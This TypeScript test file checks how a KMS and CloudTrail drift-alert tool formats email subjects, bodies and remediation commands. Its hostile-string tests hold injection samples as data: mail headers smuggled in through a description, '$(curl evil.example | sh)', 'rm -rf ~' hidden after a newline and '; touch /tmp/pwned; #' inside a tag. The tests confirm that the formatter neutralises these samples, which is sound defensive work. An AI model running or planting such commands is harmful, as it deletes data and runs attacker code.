import { formatChatbotNotification } from '../../lambda/alerts/chatbot';
import { formatEmail } from '../../lambda/alerts/email';
import { formatPagerDutyEvents } from '../../lambda/alerts/pagerduty';
import { remediationFor } from '../../lambda/core/remediation';
import type { Finding } from '../../lambda/core/types';
import {
  at,
  by,
  createAlias,
  detect,
  disabledInSessionNamedAfterSourceIdentity,
  KEY_ID,
  onKey,
  rec,
  sessionIdentity,
  withSourceIdentity,
} from '../core/harness';
import {
  ALL_FINDINGS,
  cancelKeyDeletion,
  deniedPolicyAttempt,
  deniedPutKeyPolicy,
  enableKeyRotationResolved,
  HOSTILE,
  hostileDescription,
  hostileTag,
  hugeFinding,
  KEY_ARN,
  largePolicyChange,
  putKeyPolicyOpened,
  scheduleKeyDeletion,
  stopLogging,
  TRAIL_ARN,
  trailKeyRemoved,
} from './fixtures';
import { UNSAFE_CHARACTERS } from './walk';

const SNS_MAX_BYTES = 256 * 1024;
const linesOf = (finding: Finding) => formatEmail(finding).body.split('\n');

describe('formatEmail: subject', () => {
  it('reads severity and summary (what, on what, by whom) for a critical policy drift', () => {
    expect(formatEmail(putKeyPolicyOpened).subject).toBe(
      '[CRITICAL] Key policy of alias/payments opened to account 444455556666 by Alice',
    );
  });

  it('names the status when it is not plain drift', () => {
    expect(formatEmail(enableKeyRotationResolved).subject).toBe(
      '[INFO][RESOLVED] Automatic rotation of key alias/payments enabled (every 365 days) by Alice',
    );
  });

  it('cuts a long summary with an ellipsis at 99 characters', () => {
    const { subject } = formatEmail({ ...enableKeyRotationResolved, summary: `Key ${'x '.repeat(100)}changed` });
    expect(subject).toBe(`[INFO][RESOLVED] Key ${'x '.repeat(38)}x…`);
    expect(subject).toHaveLength(99);
  });

  it('cuts long words (a key id, an ARN) before the end, so that who did it stays', () => {
    const scheduled = detect([rec('ScheduleKeyDeletion__awskmsdg__1')]).last;
    expect(scheduled.summary).toBe(
      'Key 1234abcd-12ab-34cd-56ef-1234567890ab scheduled for deletion on 2021-04-12T18:58:30Z by Alice',
    );
    expect(formatEmail(scheduled).subject).toBe(
      '[CRITICAL] Key 1234abcd-12a… scheduled for deletion on 2021-04-12T18:58:30Z by Alice',
    );
    const { subject } = formatEmail({ ...scheduled, summary: `Key ${'y'.repeat(300)} disabled by Mallory` });
    expect(subject).toBe(`[CRITICAL] Key ${'y'.repeat(12)}… disabled by Mallory`);
  });

  it('leaves out a source identity it would cut, so that no cut name reads as another caller', () => {
    // Prepare: alice, behind the session deploy-4711, schedules the deletion of the key of alias/payments-prod
    const identity = withSourceIdentity(sessionIdentity('platform-deployer', 'deploy-4711'), 'alice@example.com');
    const alias = at(createAlias('alias/payments-prod', KEY_ID), 'alias-1', '2021-03-01T09:05:00Z');
    const { last } = detect([alias, by(onKey(rec('ScheduleKeyDeletion__awskmsdg__1')), identity)]);
    expect(last.summary).toBe(
      'Key alias/payments-prod scheduled for deletion on 2021-04-12T18:58:30Z by deploy-4711 (source identity alice@example.com)',
    );

    // Act
    const { subject } = formatEmail(last);

    // Assess: not `(source identity alice@exa…`; the Who line names her
    expect(subject).toBe(
      '[CRITICAL] Key alias/payments-prod scheduled for deletion on 2021-04-12T18:58:30Z by deploy-4711',
    );
    expect(linesOf(last)).toContain(`Who:       ${last.user} (source identity alice@example.com)`);
  });

  it("leaves a tag value as it is when it says ' (source identity …)' and the caller's name says none", () => {
    // Prepare: carol's session is named after her source identity (her name says it once); she sets a tag saying it
    const carol = sessionIdentity('AWSReservedSSO_Admin_0123456789abcdef', 'carol@example.com');
    const tagged = rec('TagResource__awskmsdg__1', (r) => {
      (r.requestParameters as { tags: unknown }).tags = [
        { tagKey: 'owner', tagValue: 'payments (source identity carol@example.com)' },
      ];
    });
    const { last } = detect([by(onKey(tagged), withSourceIdentity(carol, 'carol@example.com'))]);

    // Act
    const { subject } = formatEmail(last);

    // Assess: the tag value cut as any other, not told as `owner=payments`
    expect(subject).toMatch(/ changed by carol@example\.com: owner=payments \(source identity caro…$/);
  });

  it('keeps a source identity whole when cutting long words makes room for it', () => {
    const identity = withSourceIdentity(sessionIdentity('platform-deployer', 'deploy-4711'), 'alice@example.com');
    const { last } = detect([by(onKey(rec('DisableKey__awskmsdg__1')), identity)]);
    expect(formatEmail(last).subject).toBe(
      '[CRITICAL] Key 1234abcd-12a… disabled by deploy-4711 (source identity alice@example.com)',
    );
    const named = (sourceIdentity: string) => ({
      ...last,
      sourceIdentity,
      summary: last.summary.replace('alice@example.com', sourceIdentity),
    });
    // A source identity that is itself a long word is never the one cut.
    expect(formatEmail(named('alice.longname@payments.example.com')).subject).toBe(
      '[CRITICAL] Key 1234abcd-12ab-34cd-56ef-1234567890ab disabled by deploy-4711',
    );
  });

  it('cuts a long word holding $ patterns as it is, with nothing of the summary pasted into it', () => {
    const scheduled = detect([rec('ScheduleKeyDeletion__awskmsdg__1')]).last;
    const word = `$\`$'$&${'y'.repeat(40)}`;

    const { subject } = formatEmail({ ...scheduled, summary: `Key ${word} disabled by Mallory ${'z '.repeat(30)}` });

    expect(subject).toMatch(/^\[CRITICAL\] Key \$`\$'\$&y{6}… disabled by Mallory z/);
  });

  it.each(ALL_FINDINGS)('is one line under 100 characters for the %s finding', (_name, finding) => {
    const { subject } = formatEmail(finding);
    expect(subject.length).toBeLessThan(100);
    expect(subject).not.toMatch(UNSAFE_CHARACTERS);
    expect(subject).toMatch(/^\[(CRITICAL|ERROR|WARNING|INFO)\]/);
  });

  it('cannot be split into extra mail headers by a description with CR/LF', () => {
    expect(formatEmail(hostileDescription).subject).toBe(
      '[ERROR] Description of key alias/payments changed by @here to Payments key Bcc: x@evil.example Sub…',
    );
  });
});

describe('formatEmail: body', () => {
  it('states who, when and where for someone reading it at 3 a.m.', () => {
    const lines = linesOf(putKeyPolicyOpened);
    expect(lines[0]).toBe('Key policy of alias/payments opened to account 444455556666 by Alice');
    expect(lines).toEqual(
      expect.arrayContaining([
        'Severity:  CRITICAL',
        'Status:    drift (the resource now differs from its approved baseline)',
        'Who:       arn:aws:iam::111122223333:user/Alice',
        'When:      2022-09-01T20:06:16Z',
        'Account:   111122223333',
        'Region:    us-west-2',
        `Resource:  ${KEY_ARN}`,
        'Event:     PutKeyPolicy (kms)',
        'eventId: c217db1f-903f-4a2f-8f88-9580182d6313',
      ]),
    );
  });

  it('names the source identity behind a role session on the Who line', () => {
    const user = 'arn:aws:sts::111122223333:assumed-role/platform-deployer/deploy-4711';
    const chained = { ...putKeyPolicyOpened, user, sourceIdentity: 'alice@example.com' };
    expect(linesOf(chained)).toContain(`Who:       ${user} (source identity alice@example.com)`);
  });

  it('names the source identity once when the session is named after it, as the summary does', () => {
    const last = disabledInSessionNamedAfterSourceIdentity();
    expect(last).toMatchObject({
      sourceIdentity: 'carol@example.com',
      summary: expect.stringMatching(/by carol@example\.com$/),
    });
    expect(linesOf(last)).toContain(`Who:       ${last.user}`);
  });

  it('says where the call came from: its source IP and user agent, when the record has them', () => {
    const fromCli = { ...putKeyPolicyOpened, sourceIp: '203.0.113.5', userAgent: 'aws-cli/2.17.0 Python/3.11' };
    expect(linesOf(fromCli)).toContain('From:      203.0.113.5 (aws-cli/2.17.0 Python/3.11)');
    expect(linesOf({ ...putKeyPolicyOpened, userAgent: 'console.amazonaws.com' })).toContain(
      'From:      console.amazonaws.com',
    );
    expect(linesOf(putKeyPolicyOpened).filter((line) => line.startsWith('From:'))).toEqual([]);
  });

  it('lists the principals and external accounts a policy change added, then the policies as compact JSON', () => {
    const lines = linesOf(putKeyPolicyOpened);
    const at = lines.indexOf('policy');
    expect(lines.slice(at, at + 4)).toEqual([
      'policy',
      '  added principals: arn:aws:iam::444455556666:root',
      '  removed principals: (none)',
      '  external accounts: 444455556666',
    ]);
    expect(lines[at + 4]).toBe(`  before: ${JSON.stringify(putKeyPolicyOpened.changes.policy!.before)}`);
  });

  it('shows a 32 KB policy by its size and principals instead of the document', () => {
    const { body } = formatEmail(largePolicyChange);
    expect(body).toMatch(/ {2}before: \(\d{2},\d{3} bytes, not shown: see the principals above\)/);
    expect(body).toContain('  added principals: arn:aws:iam::444455556666:root');
    expect(body).not.toContain('application-role-00100');
  });

  it('shows each state change before → after', () => {
    const lines = linesOf(scheduleKeyDeletion);
    const at = lines.indexOf('key_state');
    expect(lines.slice(at, at + 7)).toEqual([
      'key_state',
      '  before: Enabled',
      '  after:  PendingDeletion',
      '',
      'deletion_date',
      '  before: (not scheduled)',
      '  after:  2021-04-12T18:58:30Z',
    ]);
  });

  it('gives every remediation command its own line, verbatim and ready to copy', () => {
    const lines = linesOf(scheduleKeyDeletion);
    const at = lines.indexOf(scheduleKeyDeletion.remediation[0]!);
    expect(at).toBeGreaterThan(0);
    expect(lines[at + 1]).toBe(scheduleKeyDeletion.remediation[1]);
    expect(linesOf(putKeyPolicyOpened)).toContain(putKeyPolicyOpened.remediation[0]);
  });

  it('says why the severity is what it is', () => {
    const lines = linesOf(putKeyPolicyOpened);
    expect(lines).toContain('WHY CRITICAL');
    expect(lines).toContain('- A change that lets another account, or anyone, use the key is critical.');
  });

  it('links the key in the KMS console and the trail in the CloudTrail console', () => {
    expect(linesOf(putKeyPolicyOpened)).toContain(
      'https://us-west-2.console.aws.amazon.com/kms/home?region=us-west-2#/kms/keys/1234abcd-12ab-34cd-56ef-1234567890ab',
    );
    expect(linesOf(stopLogging)).toContain(
      'https://us-east-1.console.aws.amazon.com/cloudtrail/home?region=us-east-1#/trails/arn:aws:cloudtrail:us-east-1:143434273843:trail/stratus-red-team-ct-stop-trail-buykxbqejv',
    );
  });

  it('reports the error of a denied call and that nothing changed', () => {
    const lines = linesOf(deniedPutKeyPolicy);
    expect(lines).toContain(`Error:     AccessDeniedException: ${deniedPutKeyPolicy.error!.message}`);
    expect(lines).toContain('Nothing: the PutKeyPolicy call failed, so the resource is unchanged.');
    expect(lines).toContain('Nothing to revert: the call failed. Find out why this principal tried it.');
  });

  it('says there is nothing to do for a resolved change', () => {
    expect(linesOf(enableKeyRotationResolved)).toContain(
      'Nothing to do for what this change touched: it is at its approved baseline.',
    );
  });

  it.each(ALL_FINDINGS)('stays within 64 KiB, well under the SNS limit, for the %s finding', (_name, finding) => {
    const bytes = Buffer.byteLength(formatEmail(finding).body);
    expect(bytes).toBeLessThanOrEqual(64 * 1024);
    expect(bytes).toBeLessThan(SNS_MAX_BYTES);
  });

  it('cuts the changes of a huge finding first, keeping the reasons, console link and eventId', () => {
    const { body } = formatEmail(hugeFinding, { maxBodyBytes: 12 * 1024 });
    expect(Buffer.byteLength(body)).toBeLessThanOrEqual(12 * 1024);
    expect(body).toContain(
      `\n[Changes cut to fit the email: keydrift findings --resource ${KEY_ARN} --region us-west-2 --since ${hugeFinding.timestamp.slice(0, 10)} --format json shows the finding as keydrift keeps it, by eventId.]\n`,
    );
    expect(body).toContain('\nWHY CRITICAL\n');
    expect(body).toContain('\nhttps://us-west-2.console.aws.amazon.com/kms/home?region=us-west-2#/kms/keys/');
    expect(body).toContain('\neventId: 9e8d7c6b-5a49-4837-a625-1403f2e1d0c9\n');
    expect(body.endsWith('Sent by keydrift.\n')).toBe(true);
  });

  it('shows whole commands up to a quarter of the body and counts the ones left out', () => {
    const lines = linesOf(hugeFinding);
    expect(lines.filter((line) => line.startsWith('aws kms tag-resource'))).toEqual(
      hugeFinding.remediation.slice(0, 3),
    );
    // Too large for a table item, the finding is kept without its commands: the reads to work them out from instead.
    const key = `--key-id ${KEY_ARN} --region us-west-2`;
    expect(lines).toContain(
      `# 27 more commands not shown, too many for keydrift to keep: aws kms get-key-policy ${key} --policy-name default --output text shows the live policy, aws kms list-resource-tags ${key} shows the live tags, aws kms describe-key ${key} shows the live description, keydrift baseline show ${KEY_ARN} --region us-west-2 the approved ones`,
    );
  });

  it('names a resource it cannot paste (a forged ARN holding a control character) by placeholders, not redirections', () => {
    // `<the resource ARN>` in a # line that an interactive zsh runs (no interactivecomments) reads and writes files.
    const forged = { ...hugeFinding, resource: `${KEY_ARN}\u001b]8;;https://evil.example\u0007` };
    const pointer = linesOf(forged).find((line) => line.startsWith('# 27 more commands not shown'));
    const key = '--key-id RESOURCE_ARN --region REGION';
    expect(pointer).toBe(
      `# 27 more commands not shown, too many for keydrift to keep: aws kms get-key-policy ${key} --policy-name default --output text shows the live policy, aws kms list-resource-tags ${key} shows the live tags, aws kms describe-key ${key} shows the live description, keydrift baseline show RESOURCE_ARN --region REGION the approved ones`,
    );
  });

  it('honours a smaller body limit', () => {
    expect(Buffer.byteLength(formatEmail(hostileTag, { maxBodyBytes: 8 * 1024 }).body)).toBeLessThanOrEqual(8 * 1024);
  });
});

describe('formatEmail: hostile strings', () => {
  it('keeps an injected "Bcc:" or "Subject:" line inside the description line', () => {
    const lines = linesOf(hostileDescription);
    expect(lines.filter((line) => /^(Bcc|Subject):/.test(line))).toEqual([]);
    expect(lines).toContain(
      '  after:  Payments key Bcc: x@evil.example Subject: all clear <!channel> rotate now ' +
        '<hxxps://evil.example|click to restore access> RED here ```$(curl evil.example | sh)``` `x` ' +
        '*bold* _italic_ ~strike~ [docs](hxxps://evil.example) @here look',
    );
  });

  it('strips ANSI escapes and control characters everywhere and defangs attacker links', () => {
    const { body } = formatEmail(hostileDescription);
    expect(body.split('\n').filter((line) => UNSAFE_CHARACTERS.test(line))).toEqual([]);
    expect(body).not.toContain('https://evil.example');
  });

  it('cuts a 40 KB tag value to the value limit and says how long it was', () => {
    const { body } = formatEmail(hostileTag);
    const full = JSON.stringify(hostileTag.changes.tags!.after);
    expect(body).toContain(`[${full.length.toLocaleString('en-US')} characters in all]`);
    expect(body).not.toContain(HOSTILE.hugeTagValue);
    expect(Buffer.byteLength(body)).toBeLessThan(16 * 1024);
  });

  it('turns a remediation command with a line break into a comment, so pasting it runs nothing', () => {
    const finding: Finding = {
      ...hostileDescription,
      remediation: [`aws kms update-key-description --key-id ${KEY_ARN} --description 'ok\nrm -rf ~'`],
    };
    const lines = linesOf(finding);
    expect(lines).toContain(
      '# control characters removed, check before running: ' +
        `aws kms update-key-description --key-id ${KEY_ARN} --description 'ok rm -rf ~'`,
    );
    expect(lines.filter((line) => line.startsWith('rm '))).toEqual([]);
  });

  it('never shows a command with control characters with its quotes undone: by a sequence taken out, or by a cut', () => {
    // Prepare: an unterminated OSC in a description runs to the end of the line, its closing quote too; a line cut
    // inside a quoted value leaves it open as well. zsh runs `#` lines (no `interactivecomments`): the quote left open
    // there would close at the next line's first quote and run what that line quotes.
    const steps = [
      remediationFor('key', KEY_ARN, [{ path: 'description', current: 'x', target: 'payments\u001b]' }])[0]!,
      remediationFor('key', KEY_ARN, [{ path: 'description', current: 'x', target: `a\tb ${'x'.repeat(1200)}` }])[0]!,
      `aws kms tag-resource --key-id ${KEY_ARN} --tags '[{"TagKey":"; touch /tmp/pwned; #","TagValue":"1"}]'`,
    ];
    const finding: Finding = { ...hostileDescription, remediation: steps };
    // Act
    const shown = [
      ...linesOf(finding).filter((line) => line.startsWith('#')),
      ...(formatPagerDutyEvents(finding, 'rk')[0]!.payload.custom_details.remediation as string[]),
      ...formatChatbotNotification(finding).content.nextSteps,
    ];
    // Assess: every line shown of such a command still pairs its quotes (outside them, a backslash escapes a quote).
    const openQuote = (line: string) => /^(?:[^'\\]|\\.|'[^']*')*$/su.test(line) === false;
    expect(shown.filter((line) => line.includes('control characters') || line.includes('payments'))).not.toEqual([]);
    expect(shown.filter(openQuote)).toEqual([]);
  });

  it('replaces a command too long to show whole with a comment instead of cutting it', () => {
    const finding: Finding = {
      ...putKeyPolicyOpened,
      remediation: [`aws kms put-key-policy --policy '${'x'.repeat(20_000)}'`],
    };
    expect(linesOf(finding)).toContain(
      `# a 20034-character command does not fit here: keydrift findings --resource ${KEY_ARN} --region us-west-2 --since ${finding.timestamp.slice(0, 10)} shows it whole`,
    );
  });
});

describe('formatEmail: nothing the reader can misread', () => {
  it('heads the changes of a denied call "ATTEMPTED (not applied)", never "WHAT CHANGED"', () => {
    // Act
    const lines = linesOf(deniedPolicyAttempt);
    // Assess
    expect(lines).not.toContain('WHAT CHANGED');
    const at = lines.indexOf('ATTEMPTED (not applied)');
    expect(lines.slice(at, at + 3)).toEqual([
      'ATTEMPTED (not applied)',
      'policy',
      '  added principals: arn:aws:iam::444455556666:root',
    ]);
    expect(linesOf(deniedPutKeyPolicy)).toContain('ATTEMPTED (not applied)');
    expect(linesOf(putKeyPolicyOpened)).toContain('WHAT CHANGED');
  });

  it('shows an after of null as (none), since the state after an event is known, and a before of null as (unknown)', () => {
    const removed = linesOf(trailKeyRemoved);
    const at = removed.indexOf('kms_key_id');
    expect(removed.slice(at, at + 3)).toEqual(['kms_key_id', `  before: ${KEY_ARN}`, '  after:  (none)']);
    const cancelled = linesOf(cancelKeyDeletion);
    expect(cancelled.slice(cancelled.indexOf('deletion_date'), cancelled.indexOf('deletion_date') + 3)).toEqual([
      'deletion_date',
      '  before: 2021-04-12T18:58:30Z',
      '  after:  (none)',
    ]);
    const scheduled = linesOf(detect([rec('ScheduleKeyDeletion__awskmsdg__1')]).last);
    expect(scheduled.slice(scheduled.indexOf('key_state'), scheduled.indexOf('key_state') + 2)).toEqual([
      'key_state',
      '  before: (unknown)',
    ]);
  });

  it('says a resource its call created had nothing before, in every channel, not that keydrift lost what it was', () => {
    const created = detect([
      rec('CreateKey__streamalert__1', (record) => {
        (record.requestParameters as Record<string, unknown>).tags = [{ tagKey: 'team', tagValue: 'payments' }];
      }),
    ]).last;
    const lines = linesOf(created);
    for (const attribute of ['key_state', 'tags']) {
      expect(lines.slice(lines.indexOf(attribute), lines.indexOf(attribute) + 2)).toEqual([
        attribute,
        '  before: (none: new)',
      ]);
    }
    expect(formatChatbotNotification(created).content.description).toContain('\n• `key_state`: `(none: new)` →');
    const [page] = formatPagerDutyEvents(created, 'r'.repeat(32));
    expect(Object.entries(page!.payload.custom_details)).toContainEqual([
      expect.stringContaining('key_state'),
      expect.objectContaining({ before: '(none: new)' }),
    ]);
    // The reconciler's finding of a key that appeared unseen: what it was before is not known.
    expect(linesOf({ ...created, event: 'Unbaselined' })).toContain('  before: (unknown)');
  });

  it('says a deletion scheduled had no date before, and one cancelled had a date the record does not give', () => {
    const deletionDate = (lines: string[]) =>
      lines.slice(lines.indexOf('deletion_date'), lines.indexOf('deletion_date') + 3);
    expect(deletionDate(linesOf(detect([rec('ScheduleKeyDeletion__awskmsdg__1')]).last))).toEqual([
      'deletion_date',
      '  before: (not scheduled)',
      '  after:  2021-04-12T18:58:30Z',
    ]);
    expect(deletionDate(linesOf(detect([rec('CancelKeyDeletion__awskmsdg__1')]).last))).toEqual([
      'deletion_date',
      '  before: (scheduled; the date is not in the record)',
      '  after:  (none)',
    ]);
    // A denied call may have been refused for the state it assumed: its before stays unknown.
    const denied = { ...scheduleKeyDeletion, status: 'denied' as const };
    expect(deletionDate(linesOf(denied))[1]).toBe('  before: (unknown)');
  });

  it('says a description cleared is empty after, not a blank the alert left out', () => {
    const cleared = detect([
      rec('UpdateKeyDescription__awskmsdg__1', (r) => {
        (r.requestParameters as Record<string, unknown>).description = '';
      }),
    ]).last;
    const lines = linesOf(cleared);
    expect(lines.slice(lines.indexOf('description'), lines.indexOf('description') + 3)).toEqual([
      'description',
      '  before: (unknown)',
      '  after:  (empty)',
    ]);
    expect(formatPagerDutyEvents(cleared, 'r'.repeat(32))[0]!.payload.custom_details.change).toEqual({
      before: '(unknown)',
      after: '(empty)',
    });
  });

  it('reads the entries of a map the same way after: a tag removed from a key seen for the first time is (none) after', () => {
    const untagged = detect([rec('UntagResource__awskmsdg__1')]).last;
    const lines = linesOf(untagged);
    expect(lines.slice(lines.indexOf('tags'), lines.indexOf('tags') + 3)).toEqual([
      'tags',
      '  before: {"Dept":null}',
      '  after:  {"Dept":"(none)"}',
    ]);
  });

  it('never says a planned-change principal made a routine change of AWS (automatic rotation)', () => {
    // Prepare: KMS's own RotateKey record (RotateKey__awskmsdg__1): `planned`, though no planned principal acted
    const rotation: Finding = {
      ...enableKeyRotationResolved,
      event: 'RotateKey',
      eventId: 'a24b3967-ddad-417f-9b22-2332b918db06',
      timestamp: '2021-01-14T01:41:59Z',
      user: 'kms.amazonaws.com',
      status: 'planned',
      changes: {},
      summary: 'Key 1234abcd-12ab-34cd-56ef-1234567890ab rotated automatically by KMS',
    };
    // Act
    const lines = linesOf(rotation);
    // Assess
    expect(lines).toContain(
      'Status:    planned (made by a planned-change principal, or a routine change AWS makes; the baseline was updated)',
    );
    expect(lines).toContain(
      '- Every planned finding is info by default: a planned-change principal made it, or AWS made it as routine, and the baseline was updated.',
    );
  });

  it('explains the severity in words, without the rule ids the core tags its reasons with', () => {
    const { body } = formatEmail(trailKeyRemoved);
    expect(body).toContain(
      '\nWHY CRITICAL\n- The trail is left without a KMS key: its log files are no longer encrypted with KMS. ' +
        'A trail left without its KMS key writes audit logs no longer protected by KMS.\n',
    );
    expect(body).not.toContain('TrailKeepsKmsKey');
  });

  it('says what a denied call would have done, in words, without rule ids', () => {
    const lines = linesOf(deniedPolicyAttempt);
    // What would have made it critical does not say why it is a warning: the status's reason comes first.
    const why = lines.indexOf('WHY WARNING');
    expect(lines[why + 1]).toBe('- Every denied finding is a warning by default: the call failed, so nothing changed.');
    expect(lines).toContain(
      '- Had it succeeded: account 444455556666 gained access. ' +
        'A change that lets another account, or anyone, use the key is critical.',
    );
    expect(lines).toContain(
      `- Had it succeeded: CloudTrail can no longer encrypt the logs of ${TRAIL_ARN} with this key. ` +
        'The key encrypts a CloudTrail trail: CloudTrail must keep kms:GenerateDataKey* or logging fails.',
    );
    expect(lines.join('\n')).not.toMatch(/NoOutsideAccessGained|TrailKeyKeepsCloudTrailAccess/);
  });

  it('renders the flags the core sets on a change in words, never as field names', () => {
    const denied = formatEmail(deniedPolicyAttempt).body;
    const cancelled = formatEmail(cancelKeyDeletion).body;
    expect(denied).toContain(
      "\n  CloudTrail loses the kms:GenerateDataKey* permission it needs to encrypt the trail's logs with this key\n",
    );
    expect(cancelled).toContain('\n  after:  (none)\n  back to the approved value\n');
    expect(`${denied}${cancelled}`).not.toMatch(/cloudtrail_access_removed|back_to_baseline|: true/);
  });

  it('explains a default severity from the event catalogue instead of a generic sentence', () => {
    expect(formatEmail({ ...stopLogging, reasons: undefined }).body).toContain(
      "\nWHY CRITICAL\n- StopLogging is critical by default in keydrift's event catalogue.\n",
    );
    expect(formatEmail({ ...stopLogging, severity: 'error', reasons: undefined }).body).toContain(
      "\n- Set by configuration for StopLogging (critical by default in keydrift's event catalogue).\n",
    );
    expect(formatEmail(deniedPutKeyPolicy).body).toContain(
      '\nWHY WARNING\n- Every denied finding is a warning by default: the call failed, so nothing changed.\n',
    );
  });

  it('says a configuration set the severity of drift found with no event, whose default depends on what changed', () => {
    // Prepare: a key found Disabled by the reconciler (critical by default), with severityOverrides.Reconcile: warning.
    const found: Finding = {
      ...scheduleKeyDeletion,
      event: 'Reconcile',
      changes: { key_state: { before: 'Enabled', after: 'Disabled' } },
      reasons: undefined,
    };
    // Act, Assess
    expect(formatEmail({ ...found, severity: 'warning' }).body).toContain(
      "\nWHY WARNING\n- Set by configuration for Reconcile (critical by default in keydrift's event catalogue, for what it found).\n",
    );
    expect(formatEmail({ ...found, severity: 'critical' }).body).toContain(
      '\nWHY CRITICAL\n- Drift found with no event behind it weighs as the change that would have made it (a key found ' +
        'Disabled as a DisableKey), the worst difference winning.\n',
    );
  });

  it("explains an imported key material's deletion by what it deleted: material in use (critical) or staged (error)", () => {
    // Prepare: the real DeleteImportedKeyMaterial record.
    const deleted = detect([rec('DeleteImportedKeyMaterial__awskmsdg-current__1')]).last;
    // Act
    const body = formatEmail(deleted).body;
    // Assess
    expect(body).toContain(
      `\nWHY ${deleted.severity.toUpperCase()}\n- Deleting the imported key material a key uses leaves it unusable until ` +
        'the material is re-imported (critical); deleting material only staged for its next rotation leaves it as ' +
        'approved (an error).\n',
    );
  });
});
